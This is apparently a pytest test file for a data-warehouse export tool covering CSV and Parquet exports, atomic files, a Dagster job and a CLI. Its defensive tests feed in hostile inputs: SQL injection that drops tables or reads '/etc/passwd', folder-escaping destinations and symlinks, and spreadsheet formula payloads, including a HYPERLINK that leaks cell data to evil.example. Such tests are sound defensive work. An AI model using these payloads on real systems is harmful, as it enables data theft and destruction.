"""Exports on a real serving file: windows, filters, formats, atomic stable files, the Dagster job,
its schedule and `leadwh export`."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from ingest.ops.config import load_exports
from ingest.serving.exports import run_export
from tests.conftest import environment
from tests.ops.conftest import write_yaml

AS_OF = datetime(2026, 10, 30, 12, 0)
EXPORTS = {
    "exports": [
        {
            "name": "leads_last_24h",
            "mart": "fct_leads",
            "filters": {"last": "24h", "time_column": "submitted_at"},
            "format": "csv",
            "destination": "exports/daily",
            "schedule": "0 6 * * *",
        },
        {
            "name": "accepted_latest_2d",
            "mart": "fct_leads",
            "filters": {
                "last": "2d",
                "time_column": "submitted_date",
                "relative_to": "latest",
                "where": {"lead_outcome": "accepted", "source_name": ["A", "B"]},
            },
            "columns": ["lead_id", "source_name", "submitted_date"],
            "format": "parquet",
        },
        {
            "name": "by_source",
            "query": "select source_name, count(*) as leads from marts.fct_leads group by 1"
            " order by 1",
            "format": "csv",
        },
        {"name": "missing_mart", "mart": "fct_nothing", "format": "csv"},
    ]
}


@pytest.fixture
def exports_config(tmp_path):
    return load_exports(write_yaml(tmp_path / "exports.yaml", EXPORTS))


def test_last_24_hours_as_csv_with_a_stable_name_and_a_sidecar(home, exports_config):
    spec = exports_config.get("leads_last_24h")
    result = run_export(spec, home.serving, home.home, as_of=AS_OF)
    assert result.path == home.home / "exports" / "daily" / "leads_last_24h.csv"
    # one lead per hour: (2026-10-29 12:00, 2026-10-30 12:00] holds 24 of them
    assert result.rows == 24
    assert result.window_start == datetime(2026, 10, 29, 12) and result.window_end == AS_OF
    lines = result.path.read_text().splitlines()
    assert lines[0] == "lead_id,submitted_at,submitted_date,source_name,lead_outcome,profit"
    assert len(lines) == 25
    assert lines[1].startswith("lead060,2026-10-29 12:30:00")
    meta = json.loads(result.sidecar.read_text())
    assert meta["rows"] == 24 and meta["window_end"] == "2026-10-30T12:00:00"
    assert meta["filters"].startswith("last 24 hours of submitted_at")
    # a rerun replaces the file whole, under the same name; no temporary file is left behind
    inode = result.path.stat().st_ino
    again = run_export(spec, home.serving, home.home, as_of=datetime(2026, 10, 30, 18))
    assert again.path == result.path and again.rows == 24
    assert result.path.stat().st_ino != inode
    assert sorted(p.name for p in result.path.parent.iterdir()) == [
        "leads_last_24h.csv",
        "leads_last_24h.csv.meta.json",
    ]


def test_parquet_with_filters_columns_and_window_metadata(home, exports_config):
    spec = exports_config.get("accepted_latest_2d")
    result = run_export(spec, home.serving, home.home, as_of=AS_OF)
    assert result.path == home.home / "exports" / "accepted_latest_2d.parquet"
    with duckdb.connect() as con:
        rows = con.execute(f"select * from '{result.path}'").fetchall()
        kv = dict(
            con.execute(
                f"select key::varchar, value::varchar from parquet_kv_metadata('{result.path}')"
            ).fetchall()
        )
        expected = con.execute(
            "select count(*) from (select unnest(range(96)) as i) where i % 2 = 0 and i % 3 < 2"
            " and cast(timestamp '2026-10-27 00:30:00' + to_hours(i) as date) > date '2026-10-28'"
        ).fetchone()[0]
    # latest submitted_date is 2026-10-30, so the window is (10-28, 10-30]: two whole days
    assert result.window_start == datetime(2026, 10, 28) and result.window_end == datetime(
        2026, 10, 30
    )
    assert result.columns == ["lead_id", "source_name", "submitted_date"]
    assert len(rows) == result.rows == expected > 0
    assert {r[1] for r in rows} <= {"A", "B"}
    assert kv["rows"] == str(result.rows) and kv["window_start"] == "2026-10-28T00:00:00"


def test_a_query_export_and_a_missing_mart(home, exports_config):
    result = run_export(exports_config.get("by_source"), home.serving, home.home)
    assert result.path.read_text().splitlines() == ["source_name,leads", "A,32", "B,32", "C,32"]
    assert result.window_start is None
    with pytest.raises(ValueError, match="no table marts.fct_nothing.*available: fct_leads"):
        run_export(exports_config.get("missing_mart"), home.serving, home.home)
    assert not (home.home / "exports" / "missing_mart.csv").exists()


def test_the_export_job_records_rows_and_window_on_its_asset(home, tmp_path):
    from orchestration.defs.exports import export_job, op_name
    from orchestration.defs.resources import WarehouseResource

    spec = load_exports(write_yaml(tmp_path / "e.yaml", EXPORTS)).get("leads_last_24h")
    job = export_job(spec)
    with dg.instance_for_test() as instance:
        result = job.execute_in_process(
            instance=instance,
            resources={"warehouse": WarehouseResource(home=str(home.home))},
            run_config={"ops": {op_name(spec.name): {"config": {"as_of": AS_OF.isoformat()}}}},
        )
        assert result.success
        event = instance.get_latest_materialization_event(dg.AssetKey(["exports", spec.name]))
    meta = event.asset_materialization.metadata
    assert meta["rows"].value == 24
    assert meta["window_start"].value == "2026-10-29T12:00:00"
    assert meta["window_end"].value == "2026-10-30T12:00:00"
    assert meta["path"].value.endswith("exports/daily/leads_last_24h.csv")


def test_a_broken_exports_file_shows_in_the_ui_as_a_job_that_says_why(tmp_path):
    from orchestration.definitions import defs
    from orchestration.defs.exports import CONFIG_ERROR_JOB

    broken = tmp_path / "exports.yaml"
    broken.write_text("exports: [")
    with environment(LEADWH_EXPORTS_CONFIG=str(broken)):
        definitions = defs()
    jobs = {job.name for job in definitions.resolve_all_job_defs()}
    assert CONFIG_ERROR_JOB in jobs and not any(name.startswith("export_") for name in jobs)
    assert "build_all" in jobs  # the rest of the code location is there
    job = definitions.resolve_job_def(CONFIG_ERROR_JOB)
    assert f"{broken}:1:11: not valid YAML" in job.description
    with dg.instance_for_test() as instance:
        result = job.execute_in_process(instance=instance, raise_on_error=False)
    assert not result.success
    (failure,) = [e for e in result.all_events if e.is_step_failure]
    assert "not valid YAML" in failure.step_failure_data.user_failure_data.description


def test_the_export_schedule_ends_the_window_at_its_tick(tmp_path):
    from orchestration.defs.exports import export_job, export_schedule, op_name

    spec = load_exports(write_yaml(tmp_path / "e.yaml", EXPORTS)).get("leads_last_24h")
    schedule = export_schedule(spec, export_job(spec), "UTC")
    assert schedule.cron_schedule == "0 6 * * *"
    tick = datetime.fromisoformat("2026-10-30T06:00:00+00:00")
    request = schedule.evaluate_tick(
        dg.build_schedule_context(scheduled_execution_time=tick)
    ).run_requests[0]
    assert request.run_config == {
        "ops": {op_name(spec.name): {"config": {"as_of": "2026-10-30T06:00:00+00:00"}}}
    }
    assert request.run_key == "export-leads_last_24h-2026-10-30T06:00:00+00:00"


def test_leadwh_export_runs_it_through_dagster(home, tmp_path, capsys):
    from orchestration.cli import main

    config = write_yaml(tmp_path / "exports.yaml", EXPORTS)
    with environment(
        LEADWH_HOME=str(home.home),
        DAGSTER_HOME=str(home.dagster_home),
        LEADWH_EXPORTS_CONFIG=str(config),
    ):
        assert main(["export", "--list"]) == 0
        assert "leads_last_24h" in capsys.readouterr().out
        assert main(["export", "nope"]) == 2
        assert "defined: leads_last_24h" in capsys.readouterr().err
        assert main(["export", "leads_last_24h", "--as-of", AS_OF.isoformat()]) == 0
        out = capsys.readouterr().out
        with dg.DagsterInstance.get() as instance:
            event = instance.get_latest_materialization_event(
                dg.AssetKey(["exports", "leads_last_24h"])
            )
            runs = instance.get_runs()
    assert "wrote 24 rows to" in out and "leads_last_24h.csv" in out
    assert Path(home.home / "exports" / "daily" / "leads_last_24h.csv").exists()
    assert event is not None and runs[0].job_name == "export_leads_last_24h"
    assert runs[0].tags["leadwh/trigger"] == "cli"


# --------------------------------------------------------------------------------------------
# Hostile or careless specs: the SQL sandbox's rules, the exports folder, spreadsheet formulas


def query_spec(query: str, **changes):
    """An export of ``query`` as written, without the checks of the config loader."""
    from dataclasses import replace

    from ingest.ops.config.exports import _export_spec

    base = _export_spec({"name": "crafted", "query": "select 1"}, "test", "exports")
    return replace(base, query=query, **changes)


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("copy marts.fct_leads to '{tmp}/stolen.csv'", "copy statement"),
        ("select 1 as x; drop table marts.fct_leads", "one statement"),
        ("select 1 as x) as src; drop table marts.fct_leads; select * from (select 1", "parse"),
        (
            "select 1 as x) as src; attach '{warehouse}' as w; drop table w.raw.lead_events;"
            " select * from (select 1",
            "parse",
        ),
        ("select * from read_csv('/etc/passwd')", "disabled by configuration"),
        ("select * from query('attach ''{warehouse}'' as w')", "single SELECT"),
        ("select * from glob('{tmp}/*')", "disabled by configuration"),
    ],
)
def test_a_crafted_query_writes_nothing_and_drops_nothing(home, tmp_path, query, message):
    before = files_under(tmp_path)
    spec = query_spec(query.format(tmp=tmp_path, warehouse=home.warehouse))
    with pytest.raises(ValueError, match=message):
        run_export(spec, home.serving, home.home)
    assert files_under(tmp_path) == before
    with duckdb.connect(str(home.serving), read_only=True) as con:
        assert con.execute("select count(*) from marts.fct_leads").fetchone()[0] == 96
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        assert con.execute("select count(*) from raw.lead_events").fetchone()[0] == 1


def test_an_export_past_its_row_or_time_limit_fails_whole(home):
    with pytest.raises(ValueError, match="more than 10 rows; nothing was written"):
        run_export(
            query_spec("select * from marts.fct_leads", max_rows=10), home.serving, home.home
        )
    slow = query_spec("select count(*) from range(1000000000000) as a, range(9)", timeout=0.5)
    with pytest.raises(ValueError, match="longer than 0.5 s"):
        run_export(slow, home.serving, home.home)
    assert not list(home.exports.rglob("*.csv"))


@pytest.mark.parametrize("destination", ["landing", "serving", "exports/../landing"])
def test_a_destination_outside_the_exports_folder_is_refused(home, destination):
    from ingest.serving.exports import UnsafeDestination

    spec = query_spec("select 1 as x", destination=destination)
    with pytest.raises(UnsafeDestination, match="outside the exports folder"):
        run_export(spec, home.serving, home.home)
    assert not list(home.home.rglob("crafted.csv"))


def test_a_symlink_out_of_the_exports_folder_is_refused(home, tmp_path):
    from ingest.serving.exports import UnsafeDestination

    outside = tmp_path / "outside"
    outside.mkdir()
    home.exports.mkdir(parents=True)
    (home.exports / "shared").symlink_to(outside, target_is_directory=True)
    spec = query_spec("select 1 as x", destination="exports/shared")
    with pytest.raises(UnsafeDestination, match="outside the exports folder"):
        run_export(spec, home.serving, home.home)
    assert list(outside.iterdir()) == []
    # a link inside the exports folder is fine, and so is the exports folder being a link itself
    (home.exports / "inner").mkdir()
    (home.exports / "alias").symlink_to(home.exports / "inner", target_is_directory=True)
    result = run_export(
        query_spec("select 1 as x", destination="exports/alias"), home.serving, home.home
    )
    assert (home.exports / "inner" / "crafted.csv").read_text() == "x\n1\n"
    assert result.rows == 1


def test_csv_text_that_a_spreadsheet_would_run_is_escaped_and_numbers_stay_numbers(home):
    query = """
        select * from (values
            ('=HYPERLINK("http://evil.example/?"&A1, "click")', -12.5, 'plain'),
            ('+1+2', -3.0, '-minus'),
            ('@SUM(A1:A9)', 4.0, e'\\tTab'),
            (e'\\rreturn', -0.5, 'a=b'),
            (null, null, ' =spaced')
        ) as t("=cmd", amount, note)
    """
    result = run_export(query_spec(query), home.serving, home.home)
    with result.path.open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows == [
        ["'=cmd", "amount", "note"],
        ['\'=HYPERLINK("http://evil.example/?"&A1, "click")', "-12.5", "plain"],
        ["'+1+2", "-3.0", "'-minus"],
        ["'@SUM(A1:A9)", "4.0", "'\tTab"],
        ["'\rreturn", "-0.5", "a=b"],
        ["", "", " =spaced"],
    ]
    # the negative numbers are written as numbers, and the column is numeric in the file
    with duckdb.connect() as con:
        kind = con.execute(
            f"select typeof(amount) from read_csv('{result.path}') limit 1"
        ).fetchone()[0]
    assert kind == "DOUBLE"
    assert result.columns == ["=cmd", "amount", "note"]  # the sidecar keeps the real names


def test_csv_escapes_text_in_unions_blobs_and_lists_too(home):
    query = "select union_value(k := '=1+2') as u, '=HYPERLINK(1)'::blob as b, ['=x'] as l, 7 as n"
    result = run_export(query_spec(query), home.serving, home.home)
    with result.path.open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows == [["u", "b", "l", "n"], ["'=1+2", "'=HYPERLINK(1)", "['=x']", "7"]]


def test_temporary_files_of_a_killed_export_are_removed_by_the_next_run(home):
    import os
    import time

    from ingest.serving.exports import export_folder

    spec = query_spec("select 1 as x")
    folder = export_folder(spec, home.home)
    folder.mkdir(parents=True, exist_ok=True)
    stale = folder / f".{spec.file_name}.0badc0de.tmp"
    stale_meta = folder / f".{spec.file_name}.meta.json.0badc0de.tmp"
    recent = folder / f".{spec.file_name}.feedbeef.tmp"  # a run writing it now
    for path in (stale, stale_meta, recent):
        path.write_text("partial")
    hour_ago = time.time() - 3700
    for path in (stale, stale_meta):
        os.utime(path, (hour_ago, hour_ago))
    run_export(spec, home.serving, home.home)
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [recent.name, spec.file_name, f"{spec.file_name}.meta.json"]
    )


def test_parquet_keeps_values_as_they_are(home):
    spec = query_spec("select '=1+1' as formula, -2 as n", format="parquet")
    result = run_export(spec, home.serving, home.home)
    with duckdb.connect() as con:
        assert con.execute(f"select * from '{result.path}'").fetchall() == [("=1+1", -2)]
